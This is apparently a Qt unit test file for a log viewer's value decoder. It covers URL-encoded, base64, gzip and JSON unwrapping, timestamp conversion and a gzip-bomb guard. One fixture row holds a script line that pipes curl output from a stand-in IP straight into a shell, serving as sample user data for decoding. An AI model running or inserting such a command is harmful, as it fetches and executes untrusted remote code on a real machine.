#include "model/query/decodedvalue.h"
#include "tests/support/testsupport.h"

#include <zlib.h>

using namespace trailloupe;
using query::decodeValue;

namespace {

QString wrappingsOf(const query::DecodedValue& value)
{
    QStringList keys;
    for (query::Wrapping wrapping : value.how)
        keys.append(QString::fromLatin1(query::wrappingKey(wrapping)));
    return keys.join(u'+');
}

QByteArray gzip(const QByteArray& text)
{
    z_stream stream{};
    deflateInit2(&stream, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
    QByteArray out(static_cast<qsizetype>(deflateBound(&stream, uLong(text.size()))) + 32,
                   Qt::Uninitialized);
    QByteArray in = text;
    stream.next_in = reinterpret_cast<Bytef*>(in.data());
    stream.avail_in = static_cast<uInt>(in.size());
    stream.next_out = reinterpret_cast<Bytef*>(out.data());
    stream.avail_out = static_cast<uInt>(out.size());
    deflate(&stream, Z_FINISH);
    out.truncate(static_cast<qsizetype>(stream.total_out));
    deflateEnd(&stream);
    return out;
}

} // namespace

class TestDecodedValue : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init() { test::failOnAnyWarning(); }

    void textIsUnwrapped_data()
    {
        QTest::addColumn<QByteArray>("raw");
        QTest::addColumn<QString>("how");
        QTest::addColumn<QByteArray>("text");
        const QByteArray policy = R"({"Version":"2012-10-17","Statement":[]})";
        const QByteArray indented = "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": []\n}";
        QTest::newRow("policy document, URL-encoded")
            << policy.toPercentEncoding() << "url-encoded+json" << indented;
        QTest::newRow("policy document, JSON in a string") << policy << "json" << indented;
        QTest::newRow("policy document in base64")
            << policy.toBase64() << "base64+json" << indented;
        const QByteArray script = "#!/bin/bash\ncurl http://198.51.100.7/x | sh\n";
        QTest::newRow("user data") << script.toBase64() << "base64" << script;
        QTest::newRow("user data over gzip") << gzip(script).toBase64() << "base64+gzip" << script;
        QTest::newRow("path with encoded slashes")
            << QByteArray("logs%2F2024%2F%E6%97%A5.txt") << "url-encoded"
            << QByteArray("logs/2024/\xE6\x97\xA5.txt");
    }
    void textIsUnwrapped()
    {
        QFETCH(QByteArray, raw);
        QFETCH(QString, how);
        QFETCH(QByteArray, text);
        const auto decoded = decodeValue("policyDocument", raw.toStdString(), false);
        QVERIFY(decoded.has_value());
        QCOMPARE(wrappingsOf(*decoded), how);
        QCOMPARE(QByteArray::fromStdString(decoded->text), text);
        QCOMPARE(decoded->isJson(), how.endsWith(QLatin1String("json")));
    }

    void ordinaryTextIsLeftAlone_data()
    {
        QTest::addColumn<QByteArray>("raw");
        for (const char* raw : {"", "alice", "arn:aws:iam::111122223333:user/alice",
                                "AKIAIOSFODNN7EXAMPLE", "100% of it", "50%", "%zz",
                                "7aab8a1f04f32adf1113c9acdd894f10a2b5fa4039fcb4dd1cbd40b13e482b8a",
                                "oueUIFMk93wJinrrwc0QUGz+O0GaqjxHhhquvXQ1UQc=", "{not json}",
                                "[Mozilla/5.0]", "DescribeVpcEndpointServiceConfigurations",
                                "c2hvcnQ=", "%00%01%02", "H4sIAAAAAAAAAAAAAAAAAAAA"})
            QTest::newRow(raw) << QByteArray(raw);
    }
    void ordinaryTextIsLeftAlone()
    {
        QFETCH(QByteArray, raw);
        const auto decoded = decodeValue("name", raw.toStdString(), false);
        QVERIFY2(!decoded, decoded ? decoded->text.c_str() : "");
    }

    void numbersAreMomentsOnlyWhereTheNameSaysSo_data()
    {
        QTest::addColumn<QByteArray>("key");
        QTest::addColumn<QByteArray>("raw");
        QTest::addColumn<QString>("expected");
        QTest::newRow("seconds") << QByteArray("startTime") << QByteArray("1689000000")
                                 << QStringLiteral("2023-07-10T14:40:00Z");
        QTest::newRow("milliseconds") << QByteArray("creationDate") << QByteArray("1689000000123")
                                      << QStringLiteral("2023-07-10T14:40:00Z");
        QTest::newRow("fraction") << QByteArray("lastModifiedAt") << QByteArray("1689000000.5")
                                  << QStringLiteral("2023-07-10T14:40:00Z");
        QTest::newRow("a count") << QByteArray("size") << QByteArray("1689000000") << QString();
        QTest::newRow("out of range") << QByteArray("startTime") << QByteArray("5") << QString();
        QTest::newRow("an exponent")
            << QByteArray("startTime") << QByteArray("1.689e9") << QString();
        QTest::newRow("already text")
            << QByteArray("startTime") << QByteArray("2023-07-10T14:40:00Z") << QString();
    }
    void numbersAreMomentsOnlyWhereTheNameSaysSo()
    {
        QFETCH(QByteArray, key);
        QFETCH(QByteArray, raw);
        QFETCH(QString, expected);
        const auto decoded = decodeValue(key.toStdString(), raw.toStdString(), true);
        QCOMPARE(decoded ? QString::fromStdString(decoded->text) : QString(), expected);
        QCOMPARE(decoded && decoded->seconds, !expected.isEmpty());
    }

    void aGzipBombIsNotInflated()
    {
        const QByteArray bomb = gzip(QByteArray(64 << 20, 'a')).toBase64();
        const auto decoded = decodeValue("userData", bomb.toStdString(), false);
        QVERIFY(!decoded);
    }

    void hugeValuesAreLeftAlone()
    {
        const std::string huge = "{\"a\":\"" + std::string(query::kMaxDecodeBytes, 'x') + "\"}";
        QVERIFY(!decodeValue("policy", huge, false));
    }
};

QTEST_GUILESS_MAIN(TestDecodedValue)
#include "tst_decodedvalue.moc"
